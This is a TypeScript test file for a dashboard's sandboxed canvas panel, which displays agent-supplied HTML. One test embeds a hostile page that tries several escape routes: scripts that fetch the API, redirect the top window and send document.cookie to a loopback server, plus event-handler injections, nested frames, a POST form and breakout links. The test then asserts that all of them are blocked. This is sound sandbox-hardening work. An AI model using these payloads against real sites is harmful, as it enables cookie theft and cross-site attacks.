// The canvas of a session in the dashboard: it is shown, and a hostile page reaches nothing: not
// the cookie, the API, the window around it, or a server on loopback.
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { expect, onTestFinished, test } from 'vitest';
import { createCanvasTool } from '../../src/features/canvas/canvas-tool.ts';
import { violationsOn } from './axe.ts';
import { useDashboard } from './dashboard-rig.ts';

const dashboard = useDashboard();

async function present(session: string, html: string, title: string): Promise<void> {
  const { rig } = dashboard;
  const input = JSON.stringify({ action: 'present', html, title });
  await rig.post(`/v1/sessions/${session}/messages`, { text: `[[tool: canvas ${input}]] [[reply: done]]` });
  const worker = rig.turns.worker({ tools: [createCanvasTool(rig.turns.database)] });
  await worker.run(session);
  worker.stop();
}

test('a page is shown beside its session with its styles, and replaced while it is looked at', async () => {
  const { page, rig, signIn, open } = dashboard;
  await present('drawn', '<style>p { color: rgb(1, 2, 3) }</style><p>Eleven apples</p>', 'Stock');
  expect((await rig.get('/v1/sessions/drawn/canvas')).body).toMatchObject({
    title: 'Stock',
    html: expect.stringContaining('Eleven'),
  });
  expect((await rig.get('/v1/sessions/drawn/canvas?html=none')).body).not.toHaveProperty('html');
  await signIn();
  await open('/sessions/agent:main:drawn');
  const panel = page.getByRole('region', { name: 'Canvas' });
  const frame = panel.frameLocator('iframe');
  await panel.getByText('Stock').waitFor();
  await frame.getByText('Eleven apples').waitFor();
  const frames = page.frames();
  expect(await frames.at(-1)?.evaluate(`getComputedStyle(document.querySelector('p')).color`)).toBe('rgb(1, 2, 3)');
  expect(await violationsOn(page)).toEqual([]);
  await page.getByText('Live', { exact: true }).waitFor();
  await present('drawn', '<p>Twelve pears</p>', 'Stock');
  await frame.getByText('Twelve pears').waitFor();
});

test('a hostile page reads nothing, calls nothing, and leads nowhere, in its frame and alone', async () => {
  const { rig, url, context, signIn } = dashboard;
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  onTestFinished(() => void server.close());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const away = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  await present(
    'hostile',
    `<link rel="preconnect" href="${away}"><LINK rel=stylesheet href="${away}/a.css"><meta http-equiv="refresh" content="0;url=${away}/refresh">
<base href="${away}/"><style>@import url("${away}/b.css"); body { background: url(${away}/c.png) } @font-face { font-family: f; src: url(${away}/f) } p { font-family: f }</style>
<script>document.body.append('ran'); fetch('${url}/v1/sessions'); top.location = '${away}'; new Image().src = '${away}/' + document.cookie + localStorage.length</script>
<img src="${away}/d.png" onerror="document.body.append('ran')"><svg onload="document.body.append('ran')"><image href="${away}/e.png"/></svg>
<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>parent.document.body.append('ran')</script>"></iframe><object data="${away}/o"></object><embed src="${away}/m"><video src="${away}/v"></video>
<form action="${url}/v1/pause" method="post"><button>Send</button></form><a id="top" href="${away}/top" target="_top">Top</a><a id="own" href="${away}/own">Own</a>
<a id="api" href="${url}/v1/sessions">Api</a><a id="popup" href="${away}/popup" target="_blank">Popup</a><p>The words</p>`,
    'Hostile',
  );
  await signIn();
  // Not the page of the rig: what the browser refuses is logged as errors.
  const page = await context.newPage();
  const requests: string[] = [];
  page.on('request', (request) => void requests.push(`${request.method()} ${request.url()}`));
  await page.goto(`${url}/sessions/agent:main:hostile`);
  const frame = page.frameLocator('section.canvas iframe');
  await frame.getByText('The words').waitFor();
  requests.length = 0;
  for (const name of ['Send', 'Top', 'Popup', 'Api', 'Own']) {
    await frame
      .getByText(name, { exact: true })
      .click({ timeout: 2_000 })
      .catch(() => undefined);
  }
  expect(page.url()).toBe(`${url}/sessions/agent:main:hostile`);
  expect(context.pages().length).toBe(2);
  expect(requests.filter((request) => request.startsWith('POST') || request.includes(away))).toEqual([]);
  expect((await rig.get('/v1/pauses')).body.items).toEqual([]);

  await page.goto(`${url}/v1/sessions/hostile/canvas/page`);
  await page.getByText('The words').waitFor();
  expect(await page.innerText('body')).not.toContain('ran');
  const rights = `(() => {
    const fails = (read) => { try { read(); return false; } catch { return true; } };
    return [origin, fails(() => document.cookie), fails(() => localStorage.length)];
  })()`;
  expect(await page.evaluate(rights)).toEqual(['null', true, true]);
  expect(connections).toBe(0);
});
